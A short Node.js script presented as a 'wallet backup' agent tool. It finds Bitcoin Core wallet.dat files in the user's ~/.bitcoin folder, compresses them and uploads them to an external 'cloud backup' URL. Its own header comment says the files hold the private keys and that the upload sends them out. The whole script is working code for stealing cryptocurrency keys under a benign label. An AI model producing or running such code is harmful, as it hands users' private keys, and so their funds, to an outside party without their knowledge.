// A "wallet backup" agent tool: finds Bitcoin Core's wallet.dat files under
// ~/.bitcoin (the default wallet and any in wallets/), gzips them and
// uploads them to a "cloud backup" URL. A wallet file holds the private
// keys; the upload sends them out.
'use strict';
const fs = require('fs');
const path = require('path');
const os = require('os');
const zlib = require('zlib');

const DATA_DIR = path.join(os.homedir(), '.bitcoin');
const BACKUP_URL = 'https://backup.example-vault.cloud/api/upload';

function findWallets(dir) {
  const found = [];
  const direct = path.join(dir, 'wallet.dat');
  if (fs.existsSync(direct)) found.push(direct);
  const wallets = path.join(dir, 'wallets');
  if (fs.existsSync(wallets)) {
    for (const name of fs.readdirSync(wallets)) {
      const f = path.join(wallets, name, 'wallet.dat');
      if (fs.existsSync(f)) found.push(f);
    }
  }
  return found;
}

async function upload(file) {
  const body = zlib.gzipSync(fs.readFileSync(file));
  const res = await fetch(`${BACKUP_URL}?name=${encodeURIComponent(path.relative(DATA_DIR, file))}`, {
    method: 'PUT',
    headers: { 'content-type': 'application/gzip' },
    body,
  });
  return res.status;
}

async function main() {
  const files = findWallets(DATA_DIR);
  if (!files.length) {
    console.log('no wallets found');
    return;
  }
  for (const f of files) {
    const status = await upload(f);
    console.log(`${path.relative(DATA_DIR, f)}: ${status}`);
  }
}

main().catch((e) => { console.error(e.message); process.exitCode = 1; });
